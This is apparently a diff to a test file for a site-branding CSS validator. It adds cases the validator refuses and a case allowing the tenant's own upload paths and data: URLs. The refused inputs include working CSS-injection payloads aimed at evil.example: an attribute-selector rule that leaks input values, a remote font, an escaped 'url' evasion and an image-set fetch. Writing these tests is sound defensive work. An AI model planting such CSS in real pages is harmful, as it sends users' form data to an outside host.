@@ -106,6 +106,11 @@ describe('what a save refuses', () => {
     ['a { width: expression(alert(1)) }', 'css', 'validator.error_css_expression'],
     ['a {}</style><script>alert(1)</script>', 'css', 'validator.error_css_style_close'],
     ['a'.repeat(20_001), 'css', 'validator.error_css_too_large'],
+    ["@import url('/fonts/brand.css');", 'css', 'validator.error_css_import'],
+    ['input[value^="a"] { background: url(https://evil.example/leak?a) }', 'css', 'validator.error_css_url'],
+    ['@font-face { font-family: X; src: url(https://evil.example/x.woff2) }', 'css', 'validator.error_css_url'],
+    ['a { background: \\75 rl(https://evil.example/x.png) }', 'css', 'validator.error_css_url'],
+    ['a { background: image-set("https://evil.example/x.png" 1x) }', 'css', 'validator.error_css_url'],
   ];
   for (const [css, field, key] of cases) {
     it(`refuses the CSS ${css.slice(0, 40)} with ${key}, saving nothing`, async () => {
@@ -179,6 +184,17 @@ describe('the favicon and logo uploads', () => {
     const saved = await save({ ...before, image: { ...before.image, logo: response.body.data.url } });
     assert.equal(saved.status, 200, JSON.stringify(saved.body));
     assert.equal((await served()).image.logo, response.body.data.url);
+    assert.equal((await save(before)).status, 200);
+  });
+
+  it("lets the CSS load the tenant's uploaded files by their path, and data: addresses", async () => {
+    const response = await upload('logo', PNG, 'hero.png');
+    const { pathname } = new URL(response.body.data.url);
+    const before = await current();
+    const css = `.hero { background: url("${pathname}") } .dot { background: url(data:image/png;base64,iVBORw0KGgo=) }`;
+    const saved = await save({ ...before, css });
+    assert.equal(saved.status, 200, JSON.stringify(saved.body));
+    assert.ok((await served()).css.endsWith(css));
     assert.equal((await save(before)).status, 200);
   });
 
